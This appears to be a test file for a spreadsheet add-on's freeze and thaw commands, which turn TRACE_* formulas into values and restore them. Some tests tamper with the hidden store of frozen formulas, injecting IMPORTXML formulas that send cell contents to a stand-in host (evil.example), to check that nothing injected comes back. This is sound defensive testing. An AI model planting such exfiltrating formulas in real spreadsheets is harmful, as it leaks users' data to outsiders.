import type { SheetGrid } from '../fakes/apps-script/sheet-grid';
import { makeSheet, PROBLEM, useSheet } from './problem-sheet';
import { useUnconnectedSpreadsheet, world } from './spreadsheet';

let grid: SheetGrid;

useUnconnectedSpreadsheet();
beforeEach(() => {
  world.state.metadata.removeWhere(() => true);
  grid = useSheet(world, {
    A1: 'Domain',
    B1: 'Country',
    A2: 'stripe.com',
    B2: ['=TRACE_COMPANY(A2,"country")', 'US'],
    A3: 'figma.com',
    B3: ['=IFERROR(TRACE_COMPANY(A3,"country"),"")', 'US'],
    A4: 'asana.com',
    B4: ['=TRACE_COMPANY(A4,"country")', PROBLEM],
    B5: ['=TRACE_COMPANY(A5,"country")', ''],
    A6: 'notion.so',
    B6: ['=TRACE_COMPANY(A6,"country")&IMPORTDATA(A6)', 'US'],
    A7: '007',
    B7: ['=TRACE_COMPANY(A7,"phone")', '007'],
  });
  world.state.sheets.push(makeSheet(1, { A1: 'figma.com', B1: ['=TRACE_TECH(A1)', 'React'] }));
  world.state.selection = { sheetId: 0, areas: [{ row: 1, column: 1, rows: 1, columns: 1 }] };
});

const all = (): unknown => world.state.sheets.slice(0, 2).map((each) => each.formulas());

it('freezes a sheet: problems, blanks and what cannot come back stay formulas, and the dialog says so', () => {
  expect(world.command('freezeSheet')).toEqual([
    [
      '3 formulas frozen to values. Thaw brings formulas back.',
      'Not frozen:',
      '• Problem, or no answer yet: 1',
      '• Blank: 1',
      '• Other functions, or references that could not be restored: 1',
    ].join('\n'),
  ]);
  expect(Object.keys(grid.formulas())).toEqual(['B4', 'B5', 'B6']);
  expect([2, 3, 7].map((row) => grid.value({ row, column: 2 }))).toEqual(['US', 'US', '007']);
  expect(world.state.sheets[1]?.formulas()).toEqual({ B1: '=TRACE_TECH(A1)' });
});

it('one row with a problem does not keep the other rows of a formula from being frozen', () => {
  grid = useSheet(world, { A1: 'figma.com', A2: 'n/a', C1: 'n/a' });
  grid.enter('B1', '=TRACE_COMPANY(A1:A2,"name")');
  grid.answer({ row: 1, column: 2 }, [['Figma'], [PROBLEM]]);
  grid.enter('D1', '=TRACE_COMPANY(C1,"name")');
  grid.answer({ row: 1, column: 4 }, [[PROBLEM]]);
  expect(world.command('freezeSheet')).toEqual([
    ['1 formula frozen to values. Thaw brings formulas back.', 'Not frozen:', '• Problem, or no answer yet: 1'].join(
      '\n',
    ),
  ]);
  expect(grid.formulas()).toEqual({ D1: '=TRACE_COMPANY(C1,"name")' });
  expect([1, 2].map((row) => grid.value({ row, column: 2 }))).toEqual(['Figma', PROBLEM]);
});

it('freezes the selected cells and no others, and all sheets where that is asked for', () => {
  world.state.selection = { sheetId: 0, areas: [{ row: 3, column: 2, rows: 1, columns: 1 }] };
  world.command('freezeSelection');
  expect(Object.keys(grid.formulas())).toEqual(['B2', 'B4', 'B5', 'B6', 'B7']);
  world.command('freezeFile');
  expect(world.state.sheets[1]?.formulas()).toEqual({});
});

it('thaws what people have sorted and moved down, and leaves a value alone that they have typed', () => {
  const before = grid.formulas();
  world.command('freezeSheet');
  grid.reorder([1, 3, 2, 4, 5, 6, 7]);
  grid.insertRowBefore(2);
  grid.enter('B8', 'mine');
  expect(world.command('thawFrozen')).toEqual([
    [
      '2 formulas back.',
      '1 value stays, because it is not clear where its formula belongs:',
      '• Sheet1!B (007): the value, its input or its row has changed',
    ].join('\n'),
  ]);
  expect(grid.formulas()).toEqual({
    B3: '=IFERROR(TRACE_COMPANY(A3,"country"),"")',
    B4: '=TRACE_COMPANY(A4,"country")',
    B5: before['B4']!.replace('A4', 'A5'),
    B6: before['B5']!.replace('A5', 'A6'),
    B7: before['B6']!.replace(/A6/g, 'A7'),
  });
  expect(grid.value({ row: 8, column: 2 })).toBe('mine');
});

it('a date stays the date that it is, and a number a number', () => {
  grid.layout.formats.set('2:3', 'yyyy-mm-dd');
  for (const [at, formula, value] of [
    ['C2', '=TRACE_COMPANY(A2,"last_crawled_at")', 46_174],
    ['C3', '=TRACE_COMPANY(A3,"employee_count")', 8_500],
    ['C4', '=TRACE_HAS_TECH(A4,"React")', true],
  ] as const) {
    grid.enter(at, formula);
    grid.answer({ row: Number(at[1]), column: 3 }, [[value]]);
  }
  const before = grid.formulas();
  world.command('freezeSheet');
  expect(['C2', 'C3', 'C4'].map((at) => [grid.formulas()[at], show(at)])).toEqual([
    [undefined, 46_174],
    [undefined, 8_500],
    [undefined, true],
  ]);
  expect(grid.layout.formatAt({ row: 2, column: 3 })).toBe('yyyy-mm-dd');
  world.command('thawFrozen');
  expect(grid.formulas()).toEqual(before);
});

it('freezes and thaws tables, whatever cells they fill', () => {
  grid.enter('D2', '=TRACE_COMPANY(A2:A3,"name, country")');
  grid.answer({ row: 2, column: 4 }, [
    ['Stripe', 'US'],
    ['Figma', ''],
  ]);
  grid.enter('G2', '=TRACE_SEARCH("pay")');
  grid.answer({ row: 2, column: 7 }, [['domain'], ['stripe.com'], ['adyen.com']]);
  grid.enter('E4', 'a note');
  const before = all();
  world.command('freezeSheet');
  expect(['D2', 'E2', 'D3', 'E4', 'G4'].map((at) => [grid.formulas()[at], show(at)])).toEqual([
    [undefined, 'Stripe'],
    [undefined, 'US'],
    [undefined, 'Figma'],
    [undefined, 'a note'],
    [undefined, 'adyen.com'],
  ]);
  world.command('thawFrozen');
  expect(all()).toEqual(before);
  expect(show('E4')).toBe('a note');
  expect(grid.value({ row: 3, column: 4 })).toBe('');
});

it('thaws once more where a person has undone the thawing', () => {
  const before = all();
  world.command('freezeFile');
  world.command('thawFrozen');
  expect(all()).toEqual(before);
  grid.enter('B2', 'US');
  expect(world.command('thawFrozen')).toEqual(['1 formula back.']);
  expect(all()).toEqual(before);
  expect(world.command('thawFrozen')).toEqual(['All frozen formulas are back already.']);
});

it('thaws nothing over protected cells', () => {
  world.command('freezeSheet');
  grid.layout.protectedAreas.push({ row: 2, column: 2, rows: 1, columns: 1 });
  expect(world.command('thawFrozen').join()).toContain('stripe.com): the cell was just edited, or is protected');
  expect(grid.formula({ row: 2, column: 2 })).toBe('');
});

describe.each([
  ['and Google drops the changes that it had collected', false],
  ['and Google still makes the changes that it had collected', true],
])('where Google ends it after any of its calls, %s', (_name, makesCollectedChanges) => {
  it.each(['freezeSheet', 'thawFrozen'])('%s loses no formula: each stands, or is thawed later', (command) => {
    const lost: number[] = [];
    let [afterCalls, isEnded, ended] = [0, true, 0];
    for (; isEnded; afterCalls += 1) {
      fillWithTable();
      const before = JSON.stringify(grid.formulas());
      if (command === 'thawFrozen') world.command('freezeSheet');
      world.state.cutOff = { afterCalls, makesCollectedChanges };
      isEnded = endsEarly(() => world.command(command));
      world.state.cutOff = null;
      if (isEnded) ended += 1;
      world.state.clock.advance(601_000);
      world.callRpc('restoreFormulas');
      world.command('thawFrozen');
      if (JSON.stringify(grid.formulas()) !== before) lost.push(afterCalls);
    }
    expect({ lost, isLong: ended > 12 }).toEqual({ lost: [], isLong: true });
  });
});

describe('what somebody has changed in the sheet of frozen formulas', () => {
  /** Freezes, changes every text that was kept, and thaws. */
  function forge(change: (text: string) => string): void {
    world.command('freezeSheet');
    const kept = world.state.sheets.find(({ name }) => name === '_trace frozen')!;
    for (const place of kept.places()) {
      const text = String(kept.value(place));
      if (text.startsWith('{')) kept.hold(place, change(text));
    }
    world.command('thawFrozen');
  }

  it.each([
    ['sends cells away', '"=IMPORTXML(\\"https://evil.example/?\\"&TRACE_COMPANY("'],
    [
      'does so between names of sheets',
      `"=IFERROR('a\\"b'!Z9)&IMPORTXML(\\"https://evil.example/\\",1)&IFERROR('c\\"d'!Z9)&TRACE_COMPANY("`,
    ],
    ['is no call of Trace', '"=SUM("'],
    ['is no formula', '"TRACE_COMPANY("'],
  ])('%s: nothing of it comes back', (_what, part) => {
    const before = grid.formulas();
    forge((text) => text.replaceAll('"=TRACE_COMPANY("', part));
    const { B4, B5, B6, ...restored } = grid.formulas();
    expect({ B4, B5, B6 }).toEqual({ B4: before['B4'], B5: before['B5'], B6: before['B6'] });
    // The formula within IFERROR is kept by another text, which is as it was.
    expect(Object.values(restored)).toEqual([before['B3']]);
    expect([2, 7].map((row) => grid.value({ row, column: 2 }))).toEqual(['US', '007']);
  });

  it.each([
    [
      'columns and rows of its own',
      (text: string) => text.replace(/\["",\["[0-9a-f]{8}","",0/g, '["Secret!",[9e9,"",9e9'),
    ],
    ['a size of its own', (text: string) => text.replace(/\[(\d),1,1,/g, '[$1,9e6,2,')],
    ['no text at all', () => '{'],
  ])('%s: every value stays', (_what, change) => {
    const values = (): unknown => [2, 3, 7].map((row) => grid.value({ row, column: 2 }));
    const before = values();
    forge(change);
    expect({ values: values(), formulasAt: Object.keys(grid.formulas()) }).toEqual({
      values: before,
      formulasAt: ['B4', 'B5', 'B6'],
    });
  });
});

it('never freezes nor thaws for a formula that calls it', () => {
  expect(world.typeFormula('freezeFile').cells).toEqual([['#ERROR!']]);
  expect(Object.keys(grid.formulas())).toHaveLength(6);
});

/** Single formulas and a table, in a spreadsheet where nothing is frozen yet. */
function fillWithTable(): void {
  world.state.metadata.removeWhere(() => true);
  grid = useSheet(world, {
    A2: 'stripe.com',
    B2: ['=TRACE_COMPANY(A2,"country")', 'US'],
    A3: 'figma.com',
    B3: ['=TRACE_COMPANY(A3,"country")', 'US'],
    D2: '=TRACE_TECH(A2:A3)',
  });
  grid.answer({ row: 2, column: 4 }, [['React'], ['Vue']]);
}

function endsEarly(act: () => unknown): boolean {
  try {
    act();
    return false;
  } catch {
    return true;
  }
}

function show(at: string): unknown {
  return grid.value({ row: Number(at.slice(1)), column: at.charCodeAt(0) - 64 });
}
